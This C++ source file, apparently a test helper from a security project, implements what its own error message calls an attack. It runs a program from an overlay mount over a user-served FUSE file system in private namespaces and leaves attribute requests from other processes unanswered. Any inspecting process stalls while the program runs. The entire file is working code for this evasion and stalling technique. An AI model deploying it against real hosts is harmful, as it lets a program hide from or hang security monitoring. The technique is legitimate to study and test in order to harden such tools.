// SPDX-License-Identifier: MIT
//
// Runs a program from an overlay mount over a FUSE file system of the user. No other user can see
// the two mounts.
//
//   overlay-program PROGRAM [ARGUMENT]...
//       becomes a copy of PROGRAM. A child process serves the file system, in user and mount
//       namespaces of its own. When any other process asks for the file's attributes, the child
//       prints "asked" and does not answer.
#define FUSE_USE_VERSION 31
#include "util/socket_io.h"

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <fstream>
#include <fuse_lowlevel.h>
#include <iterator>
#include <sched.h>
#include <string>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

namespace {

using halvex::FileDescriptor;

constexpr fuse_ino_t programInode = 2;
constexpr double always = 1e9; // seconds

std::string program;
pid_t caller = 0;

void check(bool isDone, const char *step)
{
    if (!isDone) {
        std::fprintf(stderr, "overlay-program: %s: %s\n", step, std::strerror(errno));
        _exit(2);
    }
}

void writeTo(const char *path, const std::string &text)
{
    std::ofstream file(path);
    check(bool(file << text << std::flush), path);
}

struct stat attributesOf(fuse_ino_t inode)
{
    struct stat status = {};
    status.st_ino = inode;
    status.st_nlink = 1;
    status.st_mode = inode == programInode ? S_IFREG | 0755U : S_IFDIR | 0755U;
    status.st_size = inode == programInode ? static_cast<off_t>(program.size()) : 0;
    return status;
}

void lookUp(fuse_req_t request, fuse_ino_t /*directory*/, const char *name)
{
    if (std::string(name) != "program") {
        fuse_reply_err(request, ENOENT);
        return;
    }
    fuse_entry_param entry{};
    entry.ino = programInode;
    entry.attr = attributesOf(programInode);
    entry.entry_timeout = always;
    fuse_reply_entry(request, &entry);
}

void getAttributes(fuse_req_t request, fuse_ino_t inode, fuse_file_info * /*file*/)
{
    const pid_t asker = fuse_req_ctx(request)->pid;
    if (inode == programInode && asker != caller && asker != getpid()) {
        std::puts("asked");
        std::fflush(stdout);
        return; // without an answer
    }
    const struct stat status = attributesOf(inode);
    fuse_reply_attr(request, &status, 0);
}

void openProgram(fuse_req_t request, fuse_ino_t /*inode*/, fuse_file_info *file)
{
    file->keep_cache = 1;
    fuse_reply_open(request, file);
}

void readProgram(fuse_req_t request, fuse_ino_t /*inode*/, std::size_t size, off_t offset,
                 fuse_file_info * /*file*/)
{
    const std::string part = program.substr(static_cast<std::size_t>(offset), size);
    fuse_reply_buf(request, part.data(), part.size());
}

void serve(int device)
{
    fuse_lowlevel_ops operations{};
    operations.lookup = lookUp;
    operations.getattr = getAttributes;
    operations.open = openProgram;
    operations.read = readProgram;
    std::string name = "overlay-program";
    std::array<char *, 1> words{name.data()};
    fuse_args arguments = FUSE_ARGS_INIT(1, words.data());
    fuse_session *session = fuse_session_new(&arguments, &operations, sizeof operations, nullptr);
    const std::string mounted = "/dev/fd/" + std::to_string(device);
    check(session != nullptr && fuse_session_mount(session, mounted.c_str()) == 0, "session");
    fuse_session_loop(session);
    _exit(0);
}

void enterNamespaces()
{
    const std::string uid = std::to_string(getuid());
    const std::string gid = std::to_string(getgid());
    check(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0,
          "this attack needs user namespaces, which this host denies to users");
    writeTo("/proc/self/setgroups", "deny");
    writeTo("/proc/self/uid_map", uid + ' ' + uid + " 1\n");
    writeTo("/proc/self/gid_map", gid + ' ' + gid + " 1\n");
}

/// Mounts the two file systems, has a thread serve the lower one, and opens the program.
FileDescriptor openFromOverlay()
{
    check(mount("tmpfs", "/mnt", "tmpfs", 0, nullptr) == 0, "mounting a tmpfs");
    for (const char *directory : {"/mnt/fuse", "/mnt/empty", "/mnt/overlay"}) {
        check(mkdir(directory, 0755) == 0, directory);
    }
    const int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    check(device >= 0, "/dev/fuse");
    const std::string options = "rootmode=40755,default_permissions,fd=" + std::to_string(device) +
                                ",user_id=" + std::to_string(getuid()) +
                                ",group_id=" + std::to_string(getgid());
    check(mount("fuse", "/mnt/fuse", "fuse", 0, options.c_str()) == 0, "mounting by FUSE");
    std::thread(serve, device).detach();
    check(mount("overlay", "/mnt/overlay", "overlay", 0,
                "lowerdir=/mnt/fuse:/mnt/empty,userxattr") == 0,
          "mounting an overlay");
    FileDescriptor file(open("/mnt/overlay/program", O_RDONLY | O_CLOEXEC));
    check(file.isOpen(), "the program");
    return file;
}

} // namespace

int main(int argc, char **argv)
{
    if (argc < 2) {
        std::fputs("usage: overlay-program PROGRAM [ARGUMENT]...\n", stderr);
        return 2;
    }
    std::ifstream file(argv[1]);
    check(file.is_open(), argv[1]);
    program.assign(std::istreambuf_iterator<char>(file), {});
    caller = getpid();
    auto [ours, theirs] = halvex::makeConnection();
    check(ours.isOpen(), "socketpair");
    if (fork() == 0) {
        ours = FileDescriptor();
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        enterNamespaces();
        check(halvex::sendDescriptor(theirs.get(), openFromOverlay()), "sending the program");
        for (;;) {
            pause();
        }
    }
    theirs = FileDescriptor();
    const auto opened = halvex::receiveDescriptor(ours.get());
    if (!opened) {
        return 2; // the child has printed the reason
    }
    fexecve(opened->get(), argv + 1, environ);
    check(false, "running the program");
}
